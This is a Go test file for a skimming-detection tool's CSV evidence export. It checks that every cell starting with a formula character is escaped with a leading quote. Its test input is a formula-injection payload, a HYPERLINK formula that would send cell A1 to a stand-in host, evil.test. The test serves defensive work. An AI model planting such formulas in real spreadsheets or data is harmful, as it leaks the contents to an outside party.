package evidence

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/sqlite"
)

// Hostile pages choose script URLs and subjects, and people type
// justifications: none of it may reach a spreadsheet as a formula.
func TestCSVCellsCannotRunAsFormulas(t *testing.T) {
	for _, tc := range []struct{ name, prefix string }{
		{"equals", "="}, {"plus", "+"}, {"minus", "-"}, {"at", "@"}, {"tab", "\t"}, {"carriage return", "\r"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx := context.Background()
			db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "sg.db"))
			if err != nil {
				t.Fatal(err)
			}
			defer db.Close()
			formula := tc.prefix + `HYPERLINK("https://evil.test/?"&A1,"click")`
			b := &skimguard.Baseline{Site: "shop", Page: "checkout", URL: "https://shop.test/checkout", CreatedAt: t0, ApprovedBy: "alice", Reason: formula,
				Items: []skimguard.Item{{Type: skimguard.ItemScript, Key: "inline #1 in top", Subject: formula, Values: []string{"sha256:aa"}, SHA256: "aa",
					Attrs: map[string]string{"kind": "inline", "frame": "top", "ordinal": "1"}, FirstSeen: t0, ApprovedBy: "alice", Reason: formula, ApprovedAt: t0}}}
			if err := db.SaveBaseline(ctx, b); err != nil {
				t.Fatal(err)
			}
			s := &skimguard.Scan{Site: "shop", Page: "checkout", URL: b.URL, StartedAt: t0.Add(time.Hour), Status: skimguard.ScanFindings, BaselineVersion: 1,
				Findings: []skimguard.Finding{{Kind: skimguard.KindScriptAdded, Severity: skimguard.SeverityHigh, Subject: formula, Detail: formula, Fingerprint: "f"}}}
			if err := db.SaveScan(ctx, s); err != nil {
				t.Fatal(err)
			}
			r, err := Build(ctx, db, []skimguard.Page{{Site: "shop", Name: "checkout", URL: b.URL}}, t0, t0.AddDate(0, 0, 7), t0.AddDate(0, 0, 7))
			if err != nil {
				t.Fatal(err)
			}
			var report, inv bytes.Buffer
			if err := r.CSV(&report); err != nil {
				t.Fatal(err)
			}
			if err := InventoryCSV(&inv, r.Inventory); err != nil {
				t.Fatal(err)
			}
			for name, out := range map[string]*bytes.Buffer{"report": &report, "inventory": &inv} {
				cr := csv.NewReader(out)
				cr.FieldsPerRecord = -1
				recs, err := cr.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				found := 0
				for _, rec := range recs {
					for _, cell := range rec {
						if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
							t.Errorf("%s CSV: cell %q starts like a formula", name, cell)
						}
						if cell == "'"+formula {
							found++
						}
					}
				}
				if found == 0 {
					t.Errorf("%s CSV does not hold the text, prefixed with ', at all:\n%s", name, recs)
				}
			}
		})
	}
}
